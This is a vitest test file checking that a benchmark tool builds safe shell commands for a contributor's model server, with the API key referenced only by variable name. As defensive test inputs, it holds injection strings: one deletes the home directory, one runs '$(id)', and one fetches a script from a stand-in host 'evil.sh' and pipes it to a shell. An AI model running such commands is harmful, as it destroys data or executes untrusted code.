import { describe, expect, it } from "vitest";
import { buildTestCommand, type CommandContext } from "@/lib/suite/command";
import { SUITE_TESTS } from "@/lib/suite/definition";

const typed: CommandContext = {
  servedModel: "qwen3-coder",
  hfRepo: "Qwen/Qwen3-Coder-30B-A3B-Instruct",
  llamaBenchyVersion: "0.4.0",
  baseUrl: "http://gpu-box.lan:8001/v1/",
  apiKeyVariable: "ARENA_SERVER_KEY",
};

const commandsFor = (context: CommandContext) =>
  SUITE_TESTS.map((test, position) => buildTestCommand(test, position, context));

describe("suite commands for a contributor's own server", () => {
  it("point every command at the typed server, model and repository", () => {
    for (const command of commandsFor(typed)) {
      expect(command).toContain("http://gpu-box.lan:8001");
      expect(command).not.toContain("localhost:8000");
      expect(command).not.toContain("/v1/v1");
      expect(command).toMatch(/--model (qwen3-coder|Qwen\/Qwen3-Coder-30B-A3B-Instruct)/);
    }
    const vllm = commandsFor(typed).filter((command) => command.includes("vllm bench serve"));
    expect(vllm.length).toBeGreaterThan(0);
    for (const command of vllm) expect(command).toContain("--tokenizer Qwen/Qwen3-Coder-30B-A3B-Instruct");
  });

  it("reference the API key by its variable's name in every command, never a value", () => {
    for (const command of commandsFor(typed)) {
      expect(command).toContain('"$ARENA_SERVER_KEY"');
    }
    const llamaBenchy = commandsFor(typed).filter((command) => command.startsWith("uvx llama-benchy"));
    for (const command of llamaBenchy) expect(command).toContain('--api-key "$ARENA_SERVER_KEY"');
    const vllm = commandsFor(typed).filter((command) => command.includes("vllm bench serve"));
    for (const command of vllm) expect(command).toContain('docker exec -e OPENAI_API_KEY="$ARENA_SERVER_KEY"');
  });

  it("send no key when no variable is named, and ignore a name the shell would run", () => {
    for (const apiKeyVariable of [undefined, "", "sk-live-123 && rm -rf ~", "$(id)"]) {
      for (const command of commandsFor({ ...typed, apiKeyVariable })) {
        expect(command).not.toContain("--api-key");
        expect(command).not.toContain("OPENAI_API_KEY");
        expect(command).not.toContain("rm -rf");
        expect(command).not.toContain("$(id)");
      }
    }
  });

  it("fall back to the suite's server address for one that is not a plain URL", () => {
    for (const baseUrl of ["", "gpu-box:8000", "http://x; curl evil.sh | sh"]) {
      for (const command of commandsFor({ ...typed, baseUrl })) {
        expect(command).toContain("http://localhost:8000");
        expect(command).not.toContain("evil");
      }
    }
  });
});
